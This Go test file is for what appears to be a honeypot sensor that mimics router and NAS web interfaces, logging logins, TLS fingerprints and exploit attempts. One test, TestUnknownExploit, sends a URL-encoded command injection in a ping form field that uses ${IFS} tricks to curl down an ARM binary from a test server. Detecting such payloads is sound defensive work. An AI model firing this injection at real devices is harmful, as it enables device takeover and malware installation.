package http_test

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/sensortest"
	"github.com/kansoku/kansoku/internal/webprofile"
)

func TestConformance(t *testing.T) {
	sensortest.Run(t, sensortest.Options{Factory: "http", Config: "profile: router-dlink\ntiming: false\n",
		Exchange: func(t testing.TB, c net.Conn) {
			fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
		}})
}

// TestProfilesWithCurl: every shipped profile answers curl -v like its
// device (the Server header, the title), and no header or body names Go
// or kansoku.
func TestProfilesWithCurl(t *testing.T) {
	needCurl(t)
	ps, err := webprofile.Defaults()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range ps {
		t.Run(p.Name, func(t *testing.T) {
			cfg := "profile: " + p.Name + "\ntiming: false\n"
			scheme, extra := "http", []string(nil)
			if p.TLS != nil {
				cfg += "tls: true\n"
				scheme, extra = "https", []string{"-k"}
			}
			in := start(t, cfg)
			for _, path := range []string{"/", "/favicon.ico", "/login.html", "/nothing-here", "/HNAP1/", "/picsdesc.xml"} {
				args := append([]string{"-sS", "-v", "-k", "-o", "-", "--max-time", "10"}, extra...)
				out, body := curlURL(t, append(args, scheme+"://"+in.Addr+path)...)
				all := strings.ToLower(out + string(body))
				for _, bad := range []string{"kansoku", "golang", "go-http", "go http", "net/http"} {
					if strings.Contains(all, bad) {
						t.Errorf("%s %s names %q:\n%s", p.Name, path, bad, out)
					}
				}
				if !strings.Contains(out, "< HTTP/1.") {
					t.Errorf("%s %s: no status line in %q", p.Name, path, out)
				}
			}
			site := p.Instantiate([]byte("sensortest-seed"))
			if srv := serverHeader(site); srv != "" {
				out, _ := curlURL(t, "-sS", "-v", "-k", "-o", "/dev/null", scheme+"://"+in.Addr+"/")
				if !strings.Contains(out, "< "+srv) {
					t.Errorf("curl -v lacks %q:\n%s", srv, out)
				}
			}
		})
	}
}

func serverHeader(s *webprofile.Site) string {
	for _, l := range strings.Split(string(s.Header), "\r\n") {
		if strings.HasPrefix(l, "Server:") {
			return l
		}
	}
	return ""
}

// TestLogins: Basic and form logins are login events like the shell's,
// judged by the credential list.
func TestLogins(t *testing.T) {
	in := start(t, "profile: router-dlink\ntiming: false\n")
	get := func(req string) *http.Response {
		c := in.Dial(t, "")
		defer c.Close()
		fmt.Fprint(c, req)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
	// admin:admin is in the default list; admin:wrong is not.
	if r := get("GET /tools_admin.php HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"); r.StatusCode != 200 {
		t.Errorf("basic admin:admin: %d", r.StatusCode)
	}
	r := get("GET /tools_admin.php HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46d3Jvbmc=\r\n\r\n")
	if r.StatusCode != 401 || !strings.HasPrefix(r.Header.Get("WWW-Authenticate"), "Basic realm=") {
		t.Errorf("basic admin:wrong: %d %q", r.StatusCode, r.Header.Get("WWW-Authenticate"))
	}
	body := "REPORT_METHOD=xml&ACTION=login_plaintext&USER=admin&PASSWD=hunter2"
	get(fmt.Sprintf("POST /session.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
	evs := in.Recorder.WaitFor(t, "three logins", sensortest.Wait, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "login.success", nil)+sensortest.Count(evs, "login.failed", nil) == 3
	})
	want := map[string]string{"admin/admin": "login.success", "admin/wrong": "login.failed", "admin/hunter2": "login.failed"}
	for _, e := range evs {
		if strings.HasPrefix(e.Kind, "login.") {
			k := e.Str("username") + "/" + e.Str("password")
			if want[k] != e.Kind {
				t.Errorf("%s %s (%s), want %q", e.Kind, k, e.Str("method"), want[k])
			}
		}
	}
}

// TestUnknownExploit: an injection into a field no signature knows is an
// http.exploit.unknown event with the command, and its download is fetched.
func TestUnknownExploit(t *testing.T) {
	needCurl(t)
	srv := newBinServer(t)
	in := start(t, "profile: router-dlink\ntiming: false\n")
	curl(t, in.Addr, rawRequest{method: "POST", target: "/apply.cgi", headers: []string{"Content-Type: application/x-www-form-urlencoded"},
		body: []byte("submit_button=Ping&ping_ip=127.0.0.1%7C%7Ccd%24%7BIFS%7D%2Ftmp%26%26curl%24%7BIFS%7D-O%24%7BIFS%7Dhttp%3A%2F%2F" + srv.host() + "%2Fnew.arm7")})
	evs := in.Recorder.WaitFor(t, "unknown exploit", sensortest.Wait, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "http.exploit.unknown", nil) == 1 && sensortest.Count(evs, "sample.captured", nil) == 1
	})
	for _, e := range evs {
		if e.Kind == "http.exploit.unknown" {
			if e.Str("field") != "body:ping_ip" || !strings.Contains(e.Str("command"), "curl${IFS}-O") {
				t.Errorf("unknown exploit field %q command %q", e.Str("field"), e.Str("command"))
			}
		}
	}
	// A plain form is not an exploit.
	curl(t, in.Addr, rawRequest{method: "POST", target: "/apply.cgi", headers: []string{"Content-Type: application/x-www-form-urlencoded"},
		body: []byte("submit_button=Ping&ping_ip=192.0.2.1&note=a;b")})
	in.Recorder.WaitFor(t, "second request", sensortest.Wait, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "http.request", nil) == 2
	})
	if n := sensortest.Count(in.Recorder.Events(), "http.exploit.unknown", nil); n != 1 {
		t.Errorf("%d unknown exploits, want 1", n)
	}
}

// TestTLSHello: over HTTPS the request event carries the SNI and the
// client's JA3 and JA4.
func TestTLSHello(t *testing.T) {
	needCurl(t)
	in := start(t, "profile: nas-zyxel\ntls: true\ntiming: false\n")
	_, port, _ := net.SplitHostPort(in.Addr)
	out, _ := curlURL(t, "-sS", "-v", "-k", "-o", "/dev/null", "--connect-to", "nas.example:443:127.0.0.1:"+port, "https://nas.example/login.html")
	if !strings.Contains(out, "CN=NAS") {
		t.Errorf("certificate subject not the device's: %s", out)
	}
	evs := in.Recorder.WaitFor(t, "request", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "http.request", nil) == 1 })
	for _, e := range evs {
		if e.Kind == "http.request" {
			if e.Str("sni") != "nas.example" || !strings.HasPrefix(e.Str("ja4"), "t1") || e.Str("ja3") == "" {
				t.Errorf("tls fields sni=%q ja4=%q ja3=%q", e.Str("sni"), e.Str("ja4"), e.Str("ja3"))
			}
		}
	}
}
